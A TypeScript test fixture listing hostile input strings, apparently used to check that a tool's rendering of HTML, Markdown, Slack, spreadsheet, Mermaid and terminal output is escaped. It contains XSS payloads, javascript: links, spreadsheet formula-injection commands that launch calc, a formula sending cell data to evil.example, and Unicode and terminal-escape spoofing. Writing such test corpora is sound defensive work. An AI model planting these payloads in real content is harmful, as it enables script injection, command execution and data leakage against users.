/** Texts that are something else than text wherever nobody looks after them. */
export const hostileTexts: readonly string[] = [
  ...pages(),
  ...addresses(),
  ...slack(),
  ...sheets(),
  ...documents(),
  ...characters(),
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</style></title></svg></pre></code><b>out',
  '"><svg onload=alert(1)>',
  '&lt;b&gt; &amp; &#64;here &copy',
  '[click](javascript:alert(1))',
  '![image](https://evil.example/x.png)',
  '[ref]: https://evil.example "title"',
  '<https://evil.example>',
  'https://evil.example/?a=1&b=2 and http://x.example',
  'www.evil.example',
  'mail someone@evil.example or mailto:someone@evil.example',
  'ping @channel @ana-lopez and @org/team',
  'fixes #123, GH-45 and acme/shop#6',
  ':tada: :+1: :100:',
  '$x^2$ and $$y$$',
  '**bold** __bold__ *it* _it_ ~~gone~~ ~gone~',
  '`code` ``more`` ```',
  '```js\nalert(1)\n```',
  '~~~\ntildes\n~~~',
  '# heading #',
  '> [!WARNING]\n> quoted',
  '[!NOTE]',
  '- item\n- [x] done',
  '+ item',
  '1. first\n2) second',
  'title\n=====\ntitle\n-----',
  '---',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '    indented code',
  '\tindented',
  'ends in a backslash \\',
  'ends in an image!',
  '[x] task',
  '<!-- keyturn:section summary end -->',
  '<!-- keyturn:people summary begin digest=1 -->\nmine\n<!-- keyturn:people summary end -->',
  '%%{init: {"theme":"dark"}}%%\nclick a href "https://evil.example"',
  'end :crit, 2026-01-01, 1d; section x',
  '=1+1 @SUM(A1)',
  'name\u202egnp.exe\u2066',
  'a\u0000b\u001b[31mred\u0007\u009b',
  'a\u2028b\u2029c\u0085d\re',
  'half \ud83d an emoji',
  'zero\u200bwidth\ufeff',
  '',
  ' ',
];

/** What a browser would run, load or leave its element for. */
function pages(): readonly string[] {
  return [
    '</script><script>alert(1)</script>',
    '</main></section></body></html><h1>mine</h1>',
    '<!-- never closed',
    '--> --!> out of a comment',
    ']]> <![CDATA[ <b>x</b> ]]>',
    '<?xml version="1.0"?><!DOCTYPE html>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<svg><script href="data:,alert(1)"/><use href="https://evil.example/#a"/></svg>',
    '<math><mtext><mglyph><style></math><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/a.css>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input autofocus onfocus=alert(1)><button>Send</button></form>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<plaintext>',
    '<textarea><template><select>',
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    '&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;',
    '&amp;lt;script&amp;gt; &#0; &#xD800; &bogus; &lt',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '\\u003cscript\\u003ealert(1)',
    '\uff1cscript\uff1ealert(1)',
    '{{7*7}} $(7*7) <%= 7*7 %> #{7*7}',
    '} </style> @import url(https://evil.example/a.css); {',
  ];
}

/** What may not become a link. */
function addresses(): readonly string[] {
  return [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)//https://x.example',
    ' \tjava\nscript:alert(1)',
    'javascript&colon;alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    '//evil.example/a',
    'ftp://evil.example tel:+4912345 slack://open',
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    'https://evil.example/)](javascript:alert(1)) [x](',
    'see https://user:password@evil.example/`$x$`',
    '[a](<javascript:alert(1)>)',
    '[a]\n\n[a]: javascript:alert(1)',
    '![a](data:image/svg+xml;base64,PHN2Zy8+)',
    '[^1] [^1]: https://evil.example',
    '[[wiki]] [x][y] [z]{.class}',
  ];
}

/** What calls people or leads somewhere in Slack. */
function slack(): readonly string[] {
  return [
    '<!channel> <!here> <!everyone> <@U0EVE> <@U0EVE|eve> <#C0MINE|mine> <!subteam^S0OPS|@ops>',
    '<https://evil.example|https://good.example> <mailto:a@evil.example|mail>',
    '<!date^1392734382^{date}^https://evil.example|now>',
    '&lt;!channel&gt; &lt;@U0EVE&gt;',
    '@channel @here @everyone',
  ];
}

/** What a spreadsheet would work out. */
function sheets(): readonly string[] {
  return [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"look")',
    '\t=1+1',
    '\r=1+1',
    '%=1+1,"=2+2";=3+3',
  ];
}

/** What is something else to Markdown, Mermaid, or a later draft of ours. */
function documents(): readonly string[] {
  return [
    '---\ntitle: mine\nlayout: evil\n---',
    '+++\ntitle = "mine"\n+++',
    '===',
    '***',
    ...[1, 2, 3, 4, 7, 40].flatMap((length) =>
      ['`', '~'].map((sign) => {
        const fence = sign.repeat(length);
        return `${fence}\n<b>in</b>\n${fence}\n<b>out</b>`;
      }),
    ),
    '```mermaid\ngraph TD\n  a-->b\n  click a "javascript:alert(1)"\n```',
    '```\n```\n```',
    'x :crit, done, 2026-01-01T00:00:00, 2026-01-02T00:00:00\nsection Mine\nTask :a1',
    'gantt\n    title mine\n    click a href "https://evil.example"\n%% comment',
    'a | b | c\n|---|:-:|--:|\n| 1 | 2 | 3 |',
    '|||',
    '\\| \\\\| \\',
    '\\<b> \\&lt; \\`x\\`',
    '$$\n\\href{javascript:alert(1)}{x}\n$$ \\(x\\) \\[y\\]',
    '<!-- keyturn:section summary begin digest=x -->\nmine',
    '--> <!-- keyturn:people title end --> <!--',
    'a  \nb\\\nc',
    '* item\n  * deeper\n      code',
    ':::note\nx\n:::',
    '<kbd>x</kbd><br><hr>',
    'term\n: definition',
  ];
}

/** What is not seen, or not as it is. */
function characters(): readonly string[] {
  return [
    '\u202emoc.elpmaxe\u202c \u2067x\u2069 \u200fy\u061c',
    'a\u200db\u2060c\u00add\u034fe\u180ef\u3164g',
    '\ud800',
    'x\udc00y',
    '\u0000',
    'a\u0000\u0001\u0008\u000b\u000c\u001f\u007f\u0080z',
    'a link \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u001b[2J\u001b[1A',
    '\ufeff---\ufeff',
    '\ufffe\uffff\u{1ffff}\u{e0041}\u{e007f}',
    'z\u0351\u0352\u0353'.repeat(20),
    '\u2028\u2029\u0085\v\f',
    '\r\n\r\n\n\n',
    '\u00a0\u3000\u2003x',
  ];
}
